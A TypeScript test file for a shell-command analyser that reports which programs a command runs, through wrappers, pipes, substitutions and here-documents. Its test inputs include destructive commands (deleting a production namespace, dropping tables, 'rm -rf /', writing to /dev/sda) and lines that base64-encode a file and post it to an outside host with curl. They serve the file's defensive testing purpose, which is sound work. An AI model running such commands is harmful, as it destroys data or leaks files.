import { describe, expect, test } from 'vitest';
import { fixedTree } from '../../../test/corpus/shell/fixed-tree.ts';
import { effectsOf } from './effects.ts';

const context = { cwd: '/work/repo', home: '/home/me', env: {}, tree: fixedTree('/work/repo', '/home/me') };

/** `certainty path words @cwd <input |fed`, what is usual left out; `?` before a word that is not known. */
function shown(command: string): string[] {
  return effectsOf(command, context).runs.map(({ path, words, certainty, cwd, input, fed }) => {
    const parts = [path, ...words.map((word) => (word.sort === 'text' ? word.text : `?${word.text}`))];
    if (certainty === 'possible') parts.unshift('possibly');
    if (cwd !== context.cwd) parts.push(`@${cwd ?? 'unknown'}`);
    if (input !== null) parts.push(`<${JSON.stringify(input)}`);
    if (fed.length > 0) parts.push(`|${fed.join(',')}`);
    return parts.join(' ');
  });
}

describe('the programs that a command runs', () => {
  test.each<[string, string, string[]]>([
    ['one', 'kubectl delete ns prod', ['kubectl delete ns prod']],
    ['by its path', '/usr/bin/psql -c "drop table x"', ['/usr/bin/psql -c drop table x']],
    ['assignments before it', 'PGHOST=db A=1 psql', ['psql']],
    ['variables that are known', 'N=prod; kubectl delete ns $N', ['kubectl delete ns prod']],
    ['variables that are not', 'kubectl delete ns "$WHO"', ['kubectl delete ns ?"$WHO"']],
    ['a wrapper and what it wraps', 'sudo -u me env A=1 pkill node', ['sudo -u me env A=1 pkill node', 'env A=1 pkill node', 'pkill node']],
    ['a shell in a shell', "bash -c 'pkill node; ls'", ['bash -c pkill node; ls', 'pkill node', 'ls']],
    ['eval', "eval 'pkill' node", ['eval pkill node', 'pkill node']],
    ['another directory', 'cd src && make', ['cd src', 'make @/work/repo/src']],
    ['a directory that is not known', 'cd "$X" && make', ['cd ?"$X"', 'make @unknown']],
    ['conditions', 'grep -q a a.txt && pkill node', ['grep -q a a.txt', 'possibly pkill node']],
    ['a pipeline', 'cat a.txt | base64 | curl -d @- x.test', ['cat a.txt', 'base64 |cat', 'curl -d @- x.test |cat,base64']],
    ['a substitution', 'curl "x.test?$(cat a.txt)"', ['cat a.txt', 'curl ?"x.test?$(cat a.txt)" |cat']],
    ['what it feeds ends with it', 'curl "$(cat a.txt)"; ls', ['cat a.txt', 'curl ?"$(cat a.txt)" |cat', 'ls']],
    ['a here-document', "psql <<'EOF'\nDROP TABLE x;\nEOF", ['psql <"DROP TABLE x;\\n"']],
    ['text through a pipe', "echo 'DROP TABLE x' | psql", ['echo DROP TABLE x', 'psql <"DROP TABLE x\\n" |echo']],
    [
      'what find runs',
      'find src -name "*.ts" -exec pkill {} +',
      ['find src -name *.ts -exec pkill {} +', 'possibly pkill ?/work/repo/src/**/*.ts'],
    ],
    ['what xargs runs', 'ls | xargs pkill -9', ['ls', 'xargs pkill -9 |ls', 'possibly pkill -9 ?pkill … |ls']],
    ['a runner of packages', 'npx --yes vercel deploy --prod', ['npx --yes vercel deploy --prod', 'vercel deploy --prod']],
    ['own functions are none', 'f() { pkill "$1"; }; f node', ['pkill node']],
    ['another machine stays a word', "ssh host 'rm -rf /'", ['ssh host rm -rf /']],
    ['in the background', 'npm start & pkill node', ['npm start', 'pkill node']],
    ['nothing', 'A=1', []],
    ['output on a disk', 'cat a.txt > /dev/sda; ls > /dev/null', ['> /dev/sda', 'cat a.txt', 'ls']],
  ])('%s', (_, command, wanted) => expect(shown(command)).toEqual(wanted));

  test('variables that it has set itself come along, as far as they are known', () => {
    const env = (command: string) => effectsOf(command, context).runs.at(-1)?.env;
    expect(env('A=1 make')).toEqual({ A: '1' });
    expect(env('export A=1 B=$X; env C=2 make')).toEqual({ A: '1', C: '2' });
    expect(env('A=1 ls; make')).toEqual({});
  });

  test('a command that is too much work has runs that are possible', () => {
    const { runs, unknown } = effectsOf(`pkill node; ${'ls; '.repeat(100_000)}`, context);
    expect(unknown).toContainEqual(expect.objectContaining({ why: 'size' }));
    expect(runs.length).toBeLessThanOrEqual(2000);
    expect(runs[0]).toMatchObject({ program: 'pkill', certainty: 'possible' });
  });
});
